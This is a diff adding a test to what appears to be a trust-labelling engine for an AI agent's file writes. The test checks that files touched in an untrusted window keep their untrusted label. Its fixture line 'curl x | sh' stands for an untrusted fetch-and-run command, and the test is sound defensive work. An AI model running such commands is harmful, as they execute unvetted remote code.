@@ -703,6 +703,38 @@ describe("files a command may have written anywhere: its change window", () => {
     expect(trust.fileLevel("inside.md")?.level).toBe("untrusted");
   });
 
+  it("rule: a file a call names to write keeps its window's level through that call's change (a label), unless the call rewrites it whole at trusted", async () => {
+    const { trust, workspaceDir } = outputTrust();
+    const elsewhere = realpathSync(tempWorkspace("provenant-elsewhere-"));
+    const files = ["sed.md", "edit.md", "append.md", "rewritten.md", "untouched.md"].map((name) => join(elsewhere, name));
+    for (const f of files) writeFileSync(f, "the owner's notes\n");
+    // Nothing held while no window is on record.
+    trust.holdWindows("edit", { path: files[0] });
+    expect(labelsOf(workspaceDir)).toEqual([]);
+    await pastSlack();
+    const started = Date.now();
+    for (const f of files) appendFileSync(f, "CALL exec curl x | sh\n");
+    trust.recordWrites(writer("s"), "untrusted", "exec", { command: "node fetch.js" }, AT, started);
+    await pastSlack();
+    // A trusted turn's calls that name them, each held before it runs, then run.
+    const [sed, edit, append, rewritten, untouched] = files as [string, string, string, string, string];
+    trust.holdWindows("exec", { command: `sed -i s/notes/memo/ ${sed}` });
+    trust.holdWindows("edit", { path: edit, oldText: "notes", newText: "memo" });
+    trust.holdWindows("exec", { command: `echo more >> ${append}` });
+    trust.holdWindows("write", { path: rewritten, content: "the owner's words" });
+    for (const f of [sed, edit, append]) appendFileSync(f, "the owner's line\n");
+    writeFileSync(rewritten, "the owner's words");
+    trust.recordWrites(writer("s"), "trusted", "write", { path: rewritten, content: "the owner's words" }, AT, Date.now());
+    for (const f of [sed, edit, append]) {
+      expect(trust.fileLevel(f), f).toEqual({ level: "untrusted", reason: `${f} was written by exec at untrusted (${AT.toISOString()})` });
+    }
+    expect(trust.fileLevel(rewritten)).toBeNull();
+    // One no call named, changed again, leaves the window (the limit of windows: docs/engine.md).
+    chmodSync(untouched, 0o600);
+    expect(trust.fileLevel(untouched)).toBeNull();
+    expect(labelsOf(workspaceDir).sort()).toEqual([append, edit, sed].sort());
+  });
+
   it("rule: the owner's vouching, or a trusted turn's whole-file write, takes a file out of the windows until it changes again", async () => {
     const { trust, workspaceDir } = outputTrust();
     const elsewhere = realpathSync(tempWorkspace("provenant-elsewhere-"));
